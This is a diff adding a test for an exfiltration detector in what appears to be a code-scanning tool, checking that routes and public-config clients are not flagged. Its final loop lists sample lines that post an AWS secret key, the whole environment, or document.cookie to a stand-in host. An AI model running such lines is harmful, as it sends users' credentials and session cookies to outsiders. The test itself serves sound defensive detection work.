@@ -61,6 +61,28 @@ def test_a_client_library_named_in_prose_is_not_a_program() -> None:
     assert "code sending local data out" in [f.rule for f in find_exfiltration(python)]
 
 
+def test_a_servers_route_and_a_public_setting_are_not_data_sent_out() -> None:
+    sending = "code sending local data out"
+    # an architecture sketch, a server's routes, a client configured from public settings
+    diagram = ("```\nClient ──▶ FastAPI\n  └── WebSocket (broadcast / personal)\n```\n"
+               "Settings are read with `open(path)` in config.py.")
+    assert find_exfiltration(diagram) == []
+    routes = ('@router.post("/protected")\nasync def protected(user=Depends(auth)):\n'
+              '    return open("static/ok.txt").read()\n'
+              "app.post('/upload', (req, res) => fs.readFile('x'))")
+    assert find_exfiltration(routes) == []
+    client = ("const api = axios.create({ baseURL: process.env.NEXT_PUBLIC_API_URL });\n"
+              "requests.post(os.getenv('API_BASE_URL'), json=payload)")
+    assert find_exfiltration(client) == []
+    # a client that sends a secret or the whole environment is still one
+    for code in ("axios.post(process.env.API_URL, {k: process.env.AWS_SECRET_ACCESS_KEY})",
+                 "requests.post(url, data=dict(os.environ))",
+                 "client.post('https://x.example', json=dict(os.environ))",
+                 "$.post('https://x.example', document.cookie)",
+                 "ws = WebSocket('wss://x.example'); ws.send(document.cookie)"):
+        assert sending in [f.rule for f in find_exfiltration(code)], code
+
+
 def test_a_key_sent_to_the_service_it_is_named_after() -> None:
     rule = "secret variable sent over the network"
 
